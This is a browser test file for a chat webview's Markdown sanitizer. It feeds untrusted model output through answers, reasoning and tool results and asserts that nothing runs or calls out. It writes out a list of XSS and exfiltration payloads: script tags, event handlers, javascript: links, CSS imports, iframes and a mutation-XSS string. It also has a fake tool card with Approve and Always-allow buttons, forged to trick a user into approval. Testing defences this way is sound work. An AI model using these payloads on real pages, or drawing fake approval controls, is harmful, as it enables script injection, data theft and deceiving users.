// Model text is untrusted: malicious Markdown must execute nothing and request nothing. The page here has NO CSP,
// so what is proven is the sanitizer itself, not the host's policy behind it.
/* global window, document */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'mocha';
import { hostPost, openPanel, readCall, screenshot, startHarness } from './support.mjs';

const tinyPng = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

function payload(origin) {
	return [
		'# Totally normal answer',
		'<script>window.__pwned = "script"</script>',
		'<img src="x" onerror="window.__pwned = \'img-onerror\'">',
		`<img src="${origin}/leak/html-img?secret=1">`,
		`![remote](${origin}/leak/md-img.png)`,
		`![inline](${tinyPng})`,
		'[click me](javascript:window.__pwned="md-link")',
		'<a href="javascript:window.__pwned=\'html-link\'">html link</a>',
		'<a href="https://example.com/docs" target="_blank" ping="https://example.com/ping">a real link</a>',
		`<svg onload="window.__pwned='svg-onload'"><image href="${origin}/leak/svg-image.png"/><script>window.__pwned='svg-script'</script></svg>`,
		`<iframe src="${origin}/leak/iframe"></iframe>`,
		`<object data="${origin}/leak/object"></object>`,
		`<style>@import url("${origin}/leak/style-import.css"); body { background: url("${origin}/leak/style-bg.png") }</style>`,
		`<div style="background-image: url('${origin}/leak/inline-style.png')">styled</div>`,
		`<video poster="${origin}/leak/poster.png" src="${origin}/leak/video.mp4"></video>`,
		`<link rel="stylesheet" href="${origin}/leak/link.css">`,
		'<details open ontoggle="window.__pwned=\'ontoggle\'"><summary>x</summary>y</details>',
		`<form action="${origin}/leak/form"><button>go</button></form>`,
		'```html\n<script>window.__pwned = "code-block"</script>\n```',
		// Unclosed on purpose (a known mutation-XSS shape), so it comes last.
		'<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
	].join('\n\n');
}

describe('webview (standalone Chromium): hostile Markdown', function () {
	let harness;
	before(async () => { harness = await startHarness(); });
	after(async () => { await harness?.close(); });

	it('executes nothing and requests nothing, in answers, reasoning and tool results', async () => {
		const panel = await openPanel(harness);
		const { page } = panel;
		const browserRequests = [];
		page.on('request', (request) => browserRequests.push(request.url()));
		harness.requests.length = 0;
		const text = payload(harness.origin);
		await hostPost(page,
			{ type: 'user-message', turnId: 'u1', text: '<img src=x onerror="window.__pwned=\'user\'">' },
			{ type: 'turn-start', turnId: 't1' },
			{ type: 'reasoning-delta', turnId: 't1', text },
			...text.match(/[\s\S]{1,37}/g).map((chunk) => ({ type: 'text-delta', turnId: 't1', text: chunk })),
			{ type: 'tool-call', turnId: 't1', call: readCall('a', 'done', { result: { text, truncated: false }, summary: '<img src=x onerror="window.__pwned=\'summary\'">' }) },
			{ type: 'error', error: { kind: 'server', message: '<img src=x onerror="window.__pwned=\'banner\'">', action: 'retry' } },
			{ type: 'turn-end', turnId: 't1', reason: 'stop' });
		await page.locator('details.reasoning > summary').click();
		// Click every link the sanitizer left, in case one still runs script.
		for (const link of await page.locator('.markdown a').all()) await link.click({ modifiers: ['Control'] }).catch(() => undefined);
		await page.waitForTimeout(500);

		assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no script ran');
		assert.deepEqual(harness.requests.filter((path) => path !== '/favicon.ico'), [], 'the server saw no request');
		assert.deepEqual(browserRequests.filter((url) => !url.startsWith('data:')), [], 'the browser made no request');

		const answer = page.locator('.turn-body > .markdown');
		assert.equal(await answer.locator('script, iframe, object, style, link, form, svg, video, math, [style]').count(), 0);
		assert.equal(await page.locator('[onerror], [onload], [ontoggle]').count(), 0);
		assert.deepEqual(await answer.locator('img').evaluateAll((images) => images.map((image) => image.getAttribute('src').slice(0, 22))), ['data:image/png;base64,']);
		const links = await answer.locator('a').evaluateAll((anchors) => anchors.map((anchor) => ({ text: anchor.textContent, href: anchor.getAttribute('href'), target: anchor.getAttribute('target'), ping: anchor.getAttribute('ping') })));
		assert.deepEqual(links, [
			{ text: 'click me', href: null, target: null, ping: null },
			{ text: 'html link', href: null, target: null, ping: null },
			{ text: 'a real link', href: 'https://example.com/docs', target: null, ping: null },
		]);
		// Code is shown, not run.
		assert.match(await answer.locator('.code-block code').textContent(), /<script>window.__pwned = "code-block"<\/script>/);
		assert.equal(await page.locator('.tool-summary').textContent(), '<img src=x onerror="window.__pwned=\'summary\'">');
		assert.equal(await page.locator('.user-text').textContent(), '<img src=x onerror="window.__pwned=\'user\'">');
		await screenshot(page, 'hostile-markdown');
		assert.deepEqual(panel.errors, []);
		await panel.close();
	});

	it('keeps only the classes the renderer adds: a model cannot draw a tool card with Approve buttons', async () => {
		const panel = await openPanel(harness);
		const { page } = panel;
		const fake = [
			'Here is the result.',
			'<div class="tool-card"><div class="tool-header"><span class="codicon codicon-terminal"></span><span class="tool-summary">Run npm test</span></div>'
				+ '<div class="tool-actions"><a class="primary" href="#approve">Approve</a> <a class="secondary" href="#deny">Deny</a> <a class="link-button always-allow" href="#all">Always allow</a></div></div>',
			'<span class="hljs-keyword">const</span> <code class="language-ts tool-warning">x</code>',
			'```ts\nconst answer: number = 42;\n```',
		].join('\n\n');
		await hostPost(page,
			{ type: 'turn-start', turnId: 't1' },
			{ type: 'text-delta', turnId: 't1', text: fake },
			{ type: 'turn-end', turnId: 't1', reason: 'stop' });
		const answer = page.locator('.turn-body > .markdown');
		await answer.locator('.code-block').waitFor();
		assert.equal(await answer.locator('.tool-card, .tool-actions, .primary, .secondary, .always-allow').count(), 0, 'no tool card or action button classes survive');
		assert.equal(await answer.locator('.codicon:not(.code-action .codicon)').count(), 0, 'no icon the model drew');
		// Outside code blocks only marked's own shape is left (language-* on code, which styles nothing); the
		// renderer's classes on the fenced block stay.
		const foreign = await answer.evaluate((root) => Array.from(root.querySelectorAll('[class]'))
			.filter((element) => !element.closest('.code-block'))
			.map((element) => `${element.tagName.toLowerCase()}.${element.className}`));
		assert.deepEqual(foreign, ['code.language-ts']);
		assert.match(await answer.locator('.code-block code').getAttribute('class'), /\blanguage-ts\b.*\bhljs\b|\bhljs\b.*\blanguage-ts\b/);
		assert.ok(await answer.locator('.code-block code .hljs-keyword').count() > 0, 'highlighting keeps its classes');
		assert.ok((await answer.textContent()).includes('Approve'), 'the text itself is kept');
		await screenshot(page, 'fake-tool-card');
		assert.deepEqual(panel.errors, []);
		await panel.close();
	});

	it('ignores window messages that are not shaped like host messages', async () => {
		const panel = await openPanel(harness);
		const { page } = panel;
		await page.evaluate(() => { window.postMessage('not an object', '*'); window.postMessage({ noType: true }, '*'); window.postMessage(null, '*'); });
		await page.waitForTimeout(100);
		assert.deepEqual(panel.errors, []);
		assert.equal(await page.evaluate(() => document.querySelectorAll('.turn').length), 0);
		await panel.close();
	});
});
